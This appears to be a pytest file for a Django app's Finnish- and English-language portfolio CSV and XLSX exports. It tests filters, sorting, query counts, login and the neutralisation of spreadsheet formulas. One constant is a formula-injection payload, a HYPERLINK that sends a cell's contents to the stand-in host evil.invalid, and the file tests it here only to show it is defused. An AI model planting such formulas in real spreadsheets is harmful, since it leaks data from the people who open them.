"""Portfolio exports: CSV (streamed) and XLSX, in the user's language, with the page's filters,
spreadsheet formulas neutralised, and no per-row queries."""

import csv
import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from experiments.lifecycle import Phase
from reports.exports import neutralise

from .factories import ExperimentFactory, UserFactory

pytestmark = pytest.mark.django_db
CSV = reverse("reports:portfolio_csv")
XLSX = reverse("reports:portfolio_xlsx")
INJECTION = '=HYPERLINK("http://evil.invalid/?x="&A1,"Klikkaa")'


def read_csv(response) -> list[list[str]]:
    assert response.streaming
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


def read_xlsx(response) -> list[tuple]:
    workbook = load_workbook(io.BytesIO(response.content))
    return list(workbook.active.iter_rows(values_only=True))


@pytest.fixture
def portfolio(owner):
    return [
        ExperimentFactory(
            number=1, name_fi="Palautepalvelu", name_en="Feedback service", phase=Phase.PILOT, owner=owner
        ),
        ExperimentFactory(
            number=2, name_fi="Kirjaston chatbot", name_en="Library chatbot", phase=Phase.CONCEPT, owner=None
        ),
    ]


def test_csv_headers_and_labels_in_finnish_for_a_finnish_user(client_for, viewer, portfolio):
    response = client_for(viewer).get(CSV)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment;")
    header, first, second = read_csv(response)
    assert header[:6] == ["#", "Kokeilu", "Tiimi", "Vaihe", "Tilanne", "Omistaja"]
    assert first[:4] == ["1", "Palautepalvelu", portfolio[0].team.name_fi, "Pilotti"]
    assert first[5] == "Olli Omistaja"
    assert second[5] == "Ei omistajaa"


def test_csv_headers_and_labels_in_english_for_an_english_user(client_for, portfolio):
    header, first, second = read_csv(client_for(UserFactory(language="en")).get(CSV))
    assert header[:6] == ["#", "Experiment", "Team", "Phase", "Health", "Owner"]
    assert first[1] == "Feedback service"
    assert first[3] == "Pilot"
    assert first[4] == "No updates"
    assert second[5] == "No owner"


def test_csv_respects_the_portfolio_filters(client_for, viewer, portfolio):
    rows = read_csv(client_for(viewer).get(CSV, {"phase": "pilot"}))
    assert [row[1] for row in rows[1:]] == ["Palautepalvelu"]
    rows = read_csv(client_for(viewer).get(CSV, {"unowned": "on"}))
    assert [row[1] for row in rows[1:]] == ["Kirjaston chatbot"]
    rows = read_csv(client_for(viewer).get(CSV, {"q": "chatbot", "phase": "pilot"}))
    assert rows[1:] == []


def test_csv_follows_the_tables_sort_order(client_for, viewer, portfolio):
    rows = read_csv(client_for(viewer).get(CSV, {"sort": "-number"}))
    assert [row[0] for row in rows[1:]] == ["2", "1"]


def test_formula_injection_is_neutralised_in_csv(client_for, viewer):
    ExperimentFactory(name_fi=INJECTION, owner=UserFactory(first_name="@SUM(1+1)", last_name="X"))
    header, row = read_csv(client_for(viewer).get(CSV))
    assert row[1] == "'" + INJECTION
    assert row[5] == "'@SUM(1+1) X"


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx"])
def test_every_formula_prefix_gets_a_quote(value):
    assert neutralise(value) == "'" + value


def test_numbers_and_plain_text_are_left_alone():
    assert neutralise(-5) == -5
    assert neutralise("Palautepalvelu") == "Palautepalvelu"
    assert neutralise("") == ""


def test_xlsx_has_a_header_row_and_the_values(client_for, viewer, portfolio):
    response = client_for(viewer).get(XLSX, {"phase": ["pilot", "concept"]})
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    header, first, second = read_xlsx(response)
    assert header[:4] == ("#", "Kokeilu", "Tiimi", "Vaihe")
    assert first[:4] == (1, "Palautepalvelu", portfolio[0].team.name_fi, "Pilotti")
    assert second[5] == "Ei omistajaa"
    assert first[13].date().isoformat() == "2021-01-01"  # start date, a real date cell


def test_xlsx_in_english_neutralises_formulas_too(client_for):
    ExperimentFactory(name_fi=INJECTION, name_en=INJECTION)
    header, row = read_xlsx(client_for(UserFactory(language="en")).get(XLSX))
    assert header[1] == "Experiment"
    assert row[1] == "'" + INJECTION


def test_csv_export_costs_the_same_queries_for_3_or_30_rows(client_for, viewer):
    client = client_for(viewer)

    def consume():
        with CaptureQueriesContext(connection) as queries:
            read_csv(client.get(CSV))
        return len(queries.captured_queries)

    for _ in range(3):
        ExperimentFactory()
    small = consume()
    for _ in range(27):
        ExperimentFactory()
    assert consume() == small


def test_portfolio_page_links_to_the_exports_with_its_filters(client_for, viewer, portfolio):
    page = client_for(viewer).get(reverse("experiments:portfolio"), {"phase": "pilot", "q": "palaute"}).content.decode()
    assert f'href="{CSV}?phase=pilot&amp;q=palaute" download' in page
    assert f'href="{XLSX}?phase=pilot&amp;q=palaute" download' in page


def test_exports_require_login(client):
    for url in (CSV, XLSX):
        response = client.get(url)
        assert response.status_code == 302
        assert response["Location"].startswith(reverse("login"))
